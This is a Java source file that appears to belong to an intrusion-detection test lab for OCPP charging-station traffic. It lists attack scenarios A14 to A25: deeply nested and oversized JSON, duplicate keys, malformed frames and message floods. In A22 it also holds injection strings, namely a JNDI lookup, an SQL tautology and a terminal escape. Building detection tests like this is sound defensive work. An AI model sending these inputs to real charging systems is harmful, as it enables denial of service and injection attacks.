// SPDX-License-Identifier: Apache-2.0
package io.ferrule.ids.laboratory;

import static io.ferrule.ids.laboratory.Payloads.array;
import static io.ferrule.ids.laboratory.Payloads.object;

import com.fasterxml.jackson.databind.node.ObjectNode;
import java.util.List;
import java.util.stream.IntStream;

/** Messages that are no messages, or too many of them (A14 to A25). */
final class MessageAttacks {

    private MessageAttacks() {}

    static List<Attack> all() {
        return List.of(
                Attack.of("A14", "arrays", s -> s.frame("station", "[".repeat(100_000))),
                Attack.of(
                        "A14",
                        "objects",
                        s -> s.frame(
                                "station",
                                "[2,\"1\",\"DataTransfer\"," + "{\"a\":".repeat(50) + "1" + "}".repeat(50) + "]")),
                Attack.of(
                        "A14",
                        "cut by the recorder",
                        s -> s.line(object("from", "station", "frame", "[[[[".repeat(50), "frame-length", 400_000))),
                Attack.of(
                        "A15",
                        "a long vendor",
                        s -> s.call(
                                "BootNotification",
                                object("chargePointVendor", "A".repeat(100_000), "chargePointModel", "m"))),
                Attack.of(
                        "A15",
                        "442 megabytes",
                        s -> s.line(object(
                                "from",
                                "station",
                                "frame",
                                "[2,\"1\",\"BootNotification\",{\"chargePointVendor\":\"" + "A".repeat(20_000),
                                "frame-length",
                                442_000_000))),
                Attack.of("A15", "256 letters", s -> s.call("Authorize", object("idTag", "B".repeat(300)))),
                Attack.of(
                        "A16",
                        "a million digits",
                        s -> s.frame(
                                "station", "[2,\"1\",\"StopTransaction\",{\"meterStop\":" + "7".repeat(5_000) + "}]")),
                Attack.of(
                        "A16",
                        "2^63",
                        s -> s.call(
                                "StopTransaction",
                                object("transactionId", 5, "timestamp", s.time(), "meterStop", Long.MAX_VALUE))),
                Attack.of(
                        "A16",
                        "connector -7",
                        s -> s.call(
                                "StatusNotification",
                                object("connectorId", -7, "status", "Available", "errorCode", "NoError"))),
                Attack.of(
                        "A17",
                        "samples",
                        s -> s.call(
                                "MeterValues",
                                object(
                                        "connectorId",
                                        1,
                                        "meterValue",
                                        array(object(
                                                "timestamp",
                                                s.time(),
                                                "sampledValue",
                                                array(
                                                        IntStream.range(0, 3_000)
                                                                .mapToObj(i -> object("value", "1"))
                                                                .toArray())))))),
                Attack.of("A17", "keys", s -> s.call("DataTransfer", keys(2_000))),
                Attack.of(
                        "A17",
                        "a million elements",
                        s -> s.frame(
                                "station",
                                "[2,\"1\",\"MeterValues\",{\"meterValue\":[" + "1,".repeat(200_000) + "1]}]")),
                Attack.of(
                        "A18",
                        "meterStop twice",
                        s -> s.frame(
                                "station",
                                "[2,\"1\",\"StopTransaction\",{\"transactionId\":7,\"meterStop\":1,\"meterStop\":900,\"timestamp\":\"2026-01-06T12:00:00Z\"}]")),
                Attack.of(
                        "A18",
                        "escaped",
                        s -> s.frame("station", "[2,\"1\",\"Authorize\",{\"idTag\":\"A\",\"idT\\u0061g\":\"B\"}]")),
                Attack.of(
                        "A18",
                        "from the CSMS",
                        s -> s.frame("csms", "[2,\"1\",\"RemoteStartTransaction\",{\"idTag\":\"A\",\"idTag\":\"B\"}]")),
                Attack.of("A19", "nothing", s -> s.call("BootNotification", object())),
                Attack.of(
                        "A19",
                        "two values",
                        s -> s.frame("station", "[2,\"1\",\"Heartbeat\",{}] [2,\"2\",\"Heartbeat\",{}]")),
                Attack.of("A19", "wrong everywhere", MessageAttacks::fuzz),
                Attack.of("A20", "not an array", s -> twice(s, "{\"a\":1}")),
                Attack.of("A20", "wrong lengths", s -> twice(s, "[2,\"1\"]")),
                Attack.of("A20", "unknown types", s -> twice(s, "[7,\"1\",\"Heartbeat\",{}]")),
                Attack.of("A21", "a number", s -> s.call("StatusNotification", timed("1000000"))),
                Attack.of("A21", "a far year", s -> s.call("StatusNotification", timed("222222017-10-27T19:10:11Z"))),
                Attack.of("A21", "an offset", s -> s.call("StatusNotification", timed("2026-01-06T12:00:00+14:59"))),
                Attack.of("A22", "a look-up", s -> s.call("Authorize", object("idTag", "${jndi:ldap://x/a}"))),
                Attack.of("A22", "SQL", s -> s.call("Authorize", object("idTag", "' OR 1=1 --"))),
                Attack.of(
                        "A22",
                        "an escape",
                        s -> s.call("StatusNotification", timed(s.time()).put("info", "\u001b[2J ok"))),
                Attack.of("A23", "answers to nothing", s -> {
                    s.boot().pause(90);
                    s.frame("station", "[3,\"zz1\",{}]").pause(1).frame("station", "[3,\"zz2\",{}]");
                }),
                Attack.of("A23", "two answers", s -> {
                    String id = s.call("Heartbeat", object());
                    answer(s, id);
                    answer(s.pause(1), id);
                }),
                Attack.of("A23", "one id for all", s -> {
                    for (int i = 0; i < 6; i++) {
                        s.pause(1)
                                .frame(
                                        "station",
                                        array(2, "1", "Authorize", object("idTag", "T" + i))
                                                .toString());
                    }
                }),
                Attack.of("A24", "errors", s -> {
                    for (int i = 0; i < 80; i++) {
                        s.pause(0.3)
                                .frame(
                                        "station",
                                        array(4, "e" + i, "InternalError", "", object())
                                                .toString());
                    }
                }),
                Attack.of("A24", "unknown actions", s -> {
                    for (int i = 0; i < 10; i++) {
                        s.pause(1).call("Evil" + i, object());
                    }
                }),
                Attack.of("A24", "one unknown action", s -> {
                    for (int i = 0; i < 100; i++) {
                        s.pause(0.1).call("Evil", object());
                    }
                }),
                Attack.of("A25", "heartbeats", s -> {
                    for (int i = 0; i < 300; i++) {
                        s.pause(0.05).call("Heartbeat", object());
                    }
                }),
                Attack.of("A25", "toggling", s -> {
                    for (int i = 0; i < 500; i++) {
                        s.pause(0.01)
                                .call(
                                        "StatusNotification",
                                        timed(s.time()).put("status", i % 2 == 0 ? "Available" : "Preparing"));
                    }
                }),
                Attack.of("A25", "boots", s -> {
                    for (int i = 0; i < 20; i++) {
                        s.pause(5).boot();
                    }
                }));
    }

    private static ObjectNode keys(int count) {
        ObjectNode data = object();
        IntStream.range(0, count).forEach(i -> data.put("k" + i, i));
        return object("vendorId", "v", "data", data);
    }

    private static void fuzz(Scene s) {
        s.call("StartTransaction", object("connectorId", "one", "idTag", 5));
        s.pause(1).call("StatusNotification", object("connectorId", true, "status", array(), "errorCode", 4));
        s.pause(1).call("MeterValues", object("connectorId", object()));
        s.pause(1).call("Authorize", object());
    }

    private static void twice(Scene s, String text) {
        s.frame("station", text).pause(2).frame("station", text);
    }

    private static ObjectNode timed(String time) {
        return object("connectorId", 1, "status", "Available", "errorCode", "NoError", "timestamp", time);
    }

    private static void answer(Scene s, String id) {
        s.frame("csms", array(3, id, object("currentTime", s.time())).toString());
    }
}
